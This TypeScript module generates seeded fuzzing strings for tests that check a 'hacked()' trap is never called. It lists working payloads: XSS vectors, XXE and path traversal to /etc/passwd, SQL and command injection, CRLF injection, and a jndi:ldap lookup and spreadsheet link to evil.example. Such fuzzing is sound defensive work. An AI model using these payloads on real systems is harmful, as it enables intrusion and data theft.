/*
 * Strings for fuzzing: attack payloads, and text that often breaks software. The same seed always makes
 * the same strings, so that failures are reproducible.
 */

import { seededRandom } from "../drawings/seeded-random";

/** The payload. Tests define this function and check that it was never called. */
export const trap = "hacked()";

const markup = [
	`<script>${trap}</script>`,
	`</title></style></textarea></noscript><script>${trap}</script>`,
	`<img src=x onerror=${trap}>`,
	`"><img src=x onerror="${trap}">`,
	`<svg><animate onbegin=${trap} attributeName=x dur=1s>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=${trap}>`,
	`<iframe srcdoc="<script>parent.${trap}</script>">`,
	`<iframe src="javascript:parent.${trap}">`,
	`<object data="javascript:${trap}">`,
	`<a href="javascript:${trap}">x</a>`,
	`<a href="java&#x09;script:${trap}">x</a>`,
	`<form action="javascript:${trap}"><button>x`,
	`<input autofocus onfocus=${trap}>`,
	`<details open ontoggle=${trap}>`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=javascript:${trap}">`,
	`<style>@import "https://evil.example/a.css";</style>`,
	`<!--><script>${trap}</script>-->`,
	`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
	`" onmouseover="${trap}" x="`,
	`\`\${${trap}}\``,
];

const code = [
	`javascript:${trap}`,
	`JaVaScRiPt:${trap}//`,
	`java\nscript:${trap}`,
	`data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==`,
	`');${trap};//`,
	`\\";${trap};//`,
	`};${trap};{`,
	`{{${trap}}}`,
	`{{constructor.constructor('${trap}')()}}`,
	`\${${trap}}`,
	`<%= ${trap} %>`,
	`{"__proto__":{"polluted":"yes"}}`,
	`__proto__[polluted]=yes`,
	`__proto__`,
	`constructor`,
	`toString`,
	`[object Object]`,
];

const servers = [
	`' OR '1'='1`,
	`{"$gt":""}`,
	`../../../../etc/passwd`,
	`%2e%2e%2f%2e%2e%2fetc%2fpasswd`,
	`/etc/passwd%00.html`,
	`\\\\evil.example\\share`,
	`/\\evil.example`,
	`https://evil.example/`,
	`; cat /etc/passwd`,
	`$(id)`,
	`%0d%0aSet-Cookie:%20a=b`,
	`\r\nLocation: https://evil.example/`,
	`\${jndi:ldap://evil.example/a}`,
	`=HYPERLINK("https://evil.example","x")`,
];

const formats = [
	"%s%s%s%s%n",
	"%x %p %d %.1024d",
	"{0} {1} {}",
	"$& $1 $` $' $$",
	"\\0 \\x00 \\u0000",
	"(((((((((((((((((((((((((((((a)",
	"^(a+)+$ aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!",
	..."NaN Infinity -0 1e309 0x7fffffffffffffff null undefined true () [ \\ % %E0%A4%A # ? & ;".split(
		" ",
	),
	" ",
	"\t",
];

const scripts = [
	"Ka mihi te tōtara, ko Māori te reo",
	"مرحبا بالعالم",
	"שלום עולם",
	"你好，世界",
	"こんにちは 世界",
	"नमस्ते दुनिया",
	"สวัสดีชาวโลก",
	"Здравствуй, мир",
	"ＦＵＬＬ ｗｉｄｔｈ",
	"𝕳𝖊𝖑𝖑𝖔",
	"Z̸̡͓͎a̶͇͝l̷̰̀g̸̨̑ȯ̵̧",
	"👩‍👩‍👧‍👦 🇳🇿 🏳️‍🌈 👍🏽",
	"\u{1F468}\u200D\u{1F4BB}\uFE0F",
	"ﷺ﷽",
	"İıſŉ ß ﬁ",
	"раураl.com",
];

/** Invisible characters, and characters that change how others are displayed. */
const invisible = [
	..."\u0000\u0001\u0008\u000b\u007f\u0085\u00a0\u00ad\u061c\r\n",
	..."\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202e\u2066\u2069\u3000",
	..."\ufeff\ufffd\uffff\ud800\u{e0001}\u{10ffff}\udfff",
	"\u001b[31m",
	"\udfff\ud800",
];

const all = [...markup, ...code, ...servers, ...formats, ...scripts, ...invisible];

/** Makes `count` different strings: first every string in the lists, then random combinations. */
export function hostileStrings(count: number, seed = 2025): string[] {
	const random = seededRandom(seed);
	const one = <Item>(list: readonly Item[]): Item =>
		list[Math.floor(random() * list.length)] as Item;
	const mixtures: readonly (() => string)[] = [
		() => one(all) + one(all),
		() => one(all) + one(invisible) + one(all),
		() => one(invisible) + one(all) + one(invisible),
		() => [...one(all)].join(one(invisible)),
		() => encodeURIComponent(one([...markup, ...code, ...servers])) + one(all),
		() => one(all).replace(/[<>"'&]/g, (letter) => `&#${letter.charCodeAt(0)};`),
		() => one(all).replace(/[a-z]/g, (letter) => (random() < 0.5 ? letter.toUpperCase() : letter)),
		() => one(all).replaceAll(trap, `${trap};${one(code)}`),
		() => one(all).repeat(2 + Math.floor(random() * 20)),
		() => one(all) + String.fromCodePoint(Math.floor(random() * 0x110000)),
	];
	const made = new Set<string>(all);
	// Lengths around common buffer sizes.
	for (const length of [255, 256, 257, 1024, 4097]) made.add("A".repeat(length));
	while (made.size < count) made.add(one(mixtures)());
	return [...made].slice(0, count);
}
